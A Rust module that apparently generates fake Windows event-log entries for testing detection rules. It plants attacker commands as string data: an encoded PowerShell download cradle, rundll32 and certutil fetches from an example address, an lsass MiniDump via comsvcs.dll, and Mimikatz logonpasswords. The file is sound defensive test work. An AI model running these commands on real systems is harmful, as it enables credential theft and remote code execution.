//! A few events that well-known rules fire on, planted among the ordinary ones.
//!
//! In: nothing. Out: a table. All hosts and addresses are ones set aside for examples.

use super::kinds;
use crate::evtx::Kind;

/// A process that is started.
#[derive(Debug, Clone, Copy)]
pub(super) struct Start {
    pub(super) image: &'static str,
    pub(super) original: &'static str,
    pub(super) command: &'static str,
    pub(super) parent: &'static str,
    /// As `SYSTEM`.
    pub(super) system: bool,
}

/// What is planted.
#[derive(Debug, Clone, Copy)]
pub(super) enum Planted {
    /// Sysmon 1.
    Process(Start),
    /// Sysmon 10: this image opens the memory of `lsass.exe`.
    Lsass(&'static str),
    /// 4104.
    Script(&'static str),
    /// 7045: name and path.
    Service(&'static str, &'static str),
}

impl Planted {
    pub(super) fn kind(&self) -> Kind {
        match self {
            Self::Process(_) => kinds::PROCESS,
            Self::Lsass(_) => kinds::ACCESS,
            Self::Script(_) => kinds::SCRIPT,
            Self::Service(..) => kinds::SERVICE_INSTALLED,
        }
    }
}

const CMD: &str = r"C:\Windows\System32\cmd.exe";
const RUNDLL32: &str = r"C:\Windows\System32\rundll32.exe";

/// Each with its name.
pub(super) const PLANTED: [(&str, Planted); 8] = [
    (
        "whoami-as-system",
        Planted::Process(Start {
            image: r"C:\Windows\System32\whoami.exe",
            original: "whoami.exe",
            command: "whoami /all",
            parent: CMD,
            system: true,
        }),
    ),
    (
        "powershell-encoded",
        Planted::Process(Start {
            image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            original: "PowerShell.EXE",
            command: "powershell.exe -NoP -sta -NonI -W Hidden -Enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4A{x}",
            parent: CMD,
            system: false,
        }),
    ),
    (
        "rundll32-script",
        Planted::Process(Start {
            image: RUNDLL32,
            original: "RUNDLL32.EXE",
            command: r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.7/{x}.sct")"#,
            parent: CMD,
            system: false,
        }),
    ),
    (
        "rundll32-minidump",
        Planted::Process(Start {
            image: RUNDLL32,
            original: "RUNDLL32.EXE",
            command: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\{x}.dmp full",
            parent: CMD,
            system: true,
        }),
    ),
    (
        "certutil-download",
        Planted::Process(Start {
            image: r"C:\Windows\System32\certutil.exe",
            original: "CertUtil.exe",
            command: r"certutil.exe -urlcache -split -f http://203.0.113.7/{x}.exe C:\Users\Public\{x}.exe",
            parent: CMD,
            system: false,
        }),
    ),
    ("lsass-access", Planted::Lsass(r"C:\Users\Public\p.exe")),
    (
        "powershell-mimikatz",
        Planted::Script("Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonpasswords\"'\r\n"),
    ),
    ("service-psexec", Planted::Service("PSEXESVC", r"%SystemRoot%\PSEXESVC.exe")),
];
